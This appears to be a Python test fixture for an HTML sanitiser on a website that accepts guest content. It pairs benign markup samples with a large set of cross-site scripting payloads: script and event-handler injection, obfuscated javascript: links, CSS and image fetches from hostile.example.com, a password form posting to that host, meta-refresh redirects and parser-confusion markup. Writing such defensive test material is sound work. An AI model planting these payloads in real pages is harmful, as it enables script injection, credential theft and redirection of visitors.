"""Snippets of our own making: what a guest could try, and what a guest does write.

Each hostile one would open a dialog, fetch something from ``hostile.example.com``,
cover the page or send the visitor somewhere, if a page showed it as it is. All of them
are of kinds that any careful sanitiser stops.
"""

import re

AWAY = "https://hostile.example.com"

HOSTILE = {
    "scripts": [
        "<script>alert('a')</script><p>text</p>",
        f"<p>text<script src='{AWAY}/a.js'></script></p>",
        f"<SCRIPT type=module>import '{AWAY}/b.js'</SCRIPT>",
        "<table><tr><td><script>alert('b')</script>cell</td></tr></table>",
        "<p>a</p><script/x>alert('c')</script/x>",
    ],
    "event handlers": [
        "<p onmouseover=\"alert('a')\">text</p>",
        "<img src='/my/guest/picture/1' onerror=\"alert('b')\" alt=''>",
        "<details open ontoggle=\"alert('c')\">text</details>",
        "<b/onpointerenter=alert('d')>text</b>",
        "<p style='width: 10px' ONANIMATIONSTART=\"alert('e')\">text</p>",
        "<h2 autofocus tabindex=0 onfocus=\"alert('f')\">text</h2>",
    ],
    "schemes of links": [
        "<a href=\"javascript:alert('a')\">text</a>",
        "<a href=\"  JaVaScRiPt:alert('b')\">text</a>",
        "<a href='data:text/html,<script>alert(1)</script>'>text</a>",
        "<a href=\"vbscript:alert('c')\">text</a>",
        "<a href='blob:https://example.com/1'>text</a>",
        "<a href='file:///etc/passwd'>text</a>",
        f"<a href='//{AWAY[8:]}/a'>text</a>",
    ],
    "hidden characters in addresses": [
        "<a href=\"java&#9;script:alert('a')\">text</a>",
        "<a href=\"java&#10;script:alert('b')\">text</a>",
        "<a href=\"&#1;javascript:alert('c')\">text</a>",
        "<a href=\"&#106;avascript&colon;alert('d')\">text</a>",
        '<a href="/\\hostile.example.com/e">text</a>',
        '<a href="/&#9;/hostile.example.com/f">text</a>',
    ],
    "styles that cover the page": [
        "<div style='position: fixed; inset: 0; background: red'>text</div>",
        "<p style='margin-top: -900px'>text</p>",
        "<p style='transform: scale(90)'>text</p>",
        "<div style='z-index: 9999; position: absolute; top: 0; left: 0'>text</div>",
        "<p style='font-size: 900px; line-height: 0'>text</p>",
        "<p style='width: 100vw; height: 100vh; margin-left: -50vw'>text</p>",
        "<a href='/' style='display: block; opacity: 0; padding: 99em'>text</a>",
    ],
    "styles that fetch": [
        f"<p style='background: url({AWAY}/a.png)'>text</p>",
        f"<p style='list-style-image: url(\"{AWAY}/b.png\")'>text</p>",
        f"<p style='color: red; background-image: u\\72l({AWAY}/c.png)'>text</p>",
        f"<p style='border-image: image-set(\"{AWAY}/d.png\" 1x)'>text</p>",
        f"<style>@import '{AWAY}/e.css'; * {{ display: none }}</style><p>text</p>",
        f"<p style='cursor: /**/url({AWAY}/f.cur), auto'>text</p>",
    ],
    "classes that cover or act": [
        "<div class='modal show d-block position-fixed'>text</div>",
        "<div class='offcanvas show vw-100 vh-100'>text</div>",
        "<a class='stretched-link' href='/contactus'>text</a>",
        "<div class='s_website_form o_wsale_products_page'>text</div>",
        "<div class='fixed-top bg-white h-100 opacity-0'>text</div>",
        "<p class='o_snippet_invisible d-none visually-hidden'>text</p>",
    ],
    "attributes that scripts of the page read": [
        "<button data-bs-toggle='modal' data-bs-target='#x'>text</button>",
        f"<div data-src='{AWAY}/a' data-url='{AWAY}/b'>text</div>",
        "<owl-component name='x' props='{}'>text</owl-component>",
        "<div data-oe-model='res.users' data-oe-id='1' data-oe-field='login'>x</div>",
        "<div data-embedded='video' data-embedded-props='{}'>text</div>",
        f"<section class='s_map' data-map-address='{AWAY}'>text</section>",
    ],
    "template code": [
        "<p t-out='request.env.cr.dbname'>text</p>",
        "<t t-call='web.login'>text</t>",
        "<t t-set='x' t-value='1/0'/><p t-if='x'>text</p>",
        "<p t-att-onclick=\"'alert(1)'\">text</p>",
        "<t t-foreach='user.search([])' t-as='one'>text</t>",
    ],
    "drawings and formulas": [
        "<svg><script>alert('a')</script></svg><p>text</p>",
        "<svg onload=\"alert('b')\"><circle r='9'/></svg>",
        "<svg><a xlink:href=\"javascript:alert('c')\"><text>x</text></a></svg>",
        f"<svg><image href='{AWAY}/d.png'/></svg>",
        "<math><maction actiontype='statusline'>x</maction></math>",
        f"<svg><use href='{AWAY}/e.svg#x'/><foreignObject>x</foreignObject></svg>",
        "<img src=\"data:image/svg+xml,<svg onload=alert('f')/>\" alt=''>",
    ],
    "frames": [
        f"<iframe src='{AWAY}/a'></iframe><p>text</p>",
        "<iframe srcdoc=\"<script>alert('b')</script>\"></iframe>",
        f"<object data='{AWAY}/c'>text</object>",
        f"<embed src='{AWAY}/d'>",
        f"<frameset><frame src='{AWAY}/e'></frameset>",
        f"<applet code='{AWAY}/f'>text</applet>",
    ],
    "forms": [
        f"<form action='{AWAY}/a'><input name='password'><button>Go</button></form>",
        f"<button formaction='{AWAY}/b'>text</button>",
        "<input autofocus onfocus=\"alert('c')\">",
        "<textarea><script>alert('d')</script></textarea>",
        f"<form id='f' action='{AWAY}/e'></form><input form='f' type='submit'>",
        "<select><option>text</option></select>",
    ],
    "pictures and films of elsewhere": [
        f"<img src='{AWAY}/a.png' alt='text'>",
        f"<img srcset='{AWAY}/b.png 1x' src='/my/guest/picture/1' alt=''>",
        f"<picture><source srcset='{AWAY}/c.png'><img src='x' alt=''></picture>",
        f"<video poster='{AWAY}/d.png' src='{AWAY}/d.mp4' autoplay></video>",
        f"<audio src='{AWAY}/e.mp3' autoplay></audio>",
        f"<table background='{AWAY}/f.png'><tr><td>text</td></tr></table>",
        f"<img lowsrc='{AWAY}/g.png' dynsrc='{AWAY}/g.avi' alt=''>",
    ],
    "requests to the site itself": [
        "<img src='/web/session/logout' alt=''>",
        "<img src='/my/guest/picture/1/../../../../web/session/logout' alt=''>",
        "<img src='/web/image/1?redirect=/web/session/logout' alt=''>",
        f"<a href='/contactus' ping='{AWAY}/a'>text</a>",
        "<link rel='prerender' href='/web/session/logout'>",
        "<img src='/my/guest/picture/1#/../x' alt=''>",
    ],
    "what is of the whole page": [
        f"<meta http-equiv='refresh' content='0; url={AWAY}/a'>",
        f"<base href='{AWAY}/'><p>text</p>",
        f"<link rel='stylesheet' href='{AWAY}/b.css'>",
        "<html><body onload=\"alert('c')\"><p>text</p></body></html>",
        "<title>Log in</title><p>text</p>",
        "</div></div></main><header>text</header>",
    ],
    "markup that parsers read differently": [
        "<noscript><p title=\"</noscript><img src=x onerror=alert('a')>\">text</p>",
        "<!--><img src=x onerror=alert('b')>--><p>text</p>",
        "<xmp><p title=\"</xmp><img src=x onerror=alert('c')>\">text</p></xmp>",
        "<template><img src=x onerror=alert('d')></template>",
        "<p title='<img src=x onerror=alert(1)>'>text</p>",
        "<img src=x onerror=alert('e') //<p>text",
        "<math><mtext><style><img src=x onerror=alert('f')></style></mtext></math>",
        "<![CDATA[<img src=x onerror=alert('g')>]]><p>text</p>",
        "<?php echo 1 ?><p>text</p><plaintext><img src=x onerror=alert('h')>",
    ],
    "names that scripts look for": [
        "<p id='wrapwrap'>text</p>",
        "<a id='odoo' name='odoo' href='/'>text</a>",
        "<img name='getElementById' src='/my/guest/picture/1' alt=''>",
        "<p id='csrf_token' is='x-a' slot='b' part='c'>text</p>",
        "<p contenteditable='true' accesskey='s' tabindex='1'>text</p>",
    ],
}

HARMLESS = [
    "<p>One paragraph.</p>",
    "<p>One.</p>\n<p>Two, with<br>a line break.</p>",
    "<h2>Heading</h2><h3>And one below</h3><p>Text</p>",
    "<p><strong>Bold</strong>, <em>slanted</em>, <u>underlined</u>, <s>gone</s></p>",
    "<p><b>b</b> <i>i</i> H<sub>2</sub>O and m<sup>2</sup></p>",
    "<p>5 &lt; 6 &amp; 7 &gt; 6</p>",
    "<p>Café “Zoë” – € 5,–&nbsp;per kop ☕</p>",
    "<ul><li>One</li><li>Two<ul><li>Deeper</li></ul></li></ul>",
    '<ol start="3"><li>Three</li><li value="7">Seven</li></ol>',
    '<ul class="o_checklist"><li class="o_checked">Done</li><li>To do</li></ul>',
    "<blockquote>Somebody said this.</blockquote><p>Yes.</p>",
    '<blockquote class="blockquote"><p>Said</p></blockquote>',
    "<p>She wrote:\n&gt; this\n&gt; and that</p>",
    "<p>Regards</p><p>-- <br>Somebody</p>",
    "<pre>a = 1\n    b = 2</pre>",
    "<p><code>./script/demo</code> and <kbd>Ctrl</kbd></p>",
    '<p class="text-center">In the middle</p>',
    '<p style="text-align: right">On the right</p>',
    '<p style="text-align: justify; line-height: 1.5">Filled</p>',
    '<p><font style="color: rgb(255, 0, 0)">Red</font></p>',
    '<p><span style="font-size: 24px; background-color: #ffff00">Large</span></p>',
    '<p><span class="display-4-fs">Very large</span></p>',
    '<p><a href="/contactus">Our own page</a> and <a href="#top">up</a></p>',
    '<p><a href="mailto:info@example.com">Mail</a>, <a href="tel:+31101">call</a></p>',
    '<p><a href="https://example.com/?a=1&amp;b=2" rel="ugc nofollow noopener">'
    "Elsewhere</a></p>",
    '<p><a href="https://example.com/" target="_blank" rel="ugc nofollow noopener">'
    "In another window</a></p>",
    '<p><a class="btn btn-primary" href="/shop">A button</a></p>',
    '<p><img src="/my/guest/picture/12" alt="A cat" class="img-fluid rounded"></p>',
    '<figure class="figure"><img src="/my/guest/picture/7" alt="" width="300">'
    "<figcaption>The shop</figcaption></figure>",
    '<p><img src="/web/image/34-ab12/shop.jpg?access_token=a-1" alt="By staff" '
    'style="width: 50%"></p>',
    '<table class="table table-bordered o_table"><tbody><tr><td>1</td><td>2</td></tr>'
    "</tbody></table>",
    '<table class="table"><caption>Prices</caption><thead><tr><th scope="col">What</th>'
    '<th scope="col">How much</th></tr></thead><tbody><tr><td colspan="2" '
    'style="width: 40%; text-align: right">5</td></tr></tbody></table>',
    '<p dir="rtl" lang="ar">نص</p>',
    '<p>Term</p><dl><dt>What</dt><dd>It is</dd></dl><hr><p title="More">End</p>',
]


def use_picture(snippet, number):
    """Return a snippet with a picture of the text that it is put in."""
    return re.sub(r"(/my/guest/picture/)\d+", rf"\g<1>{number}", snippet)
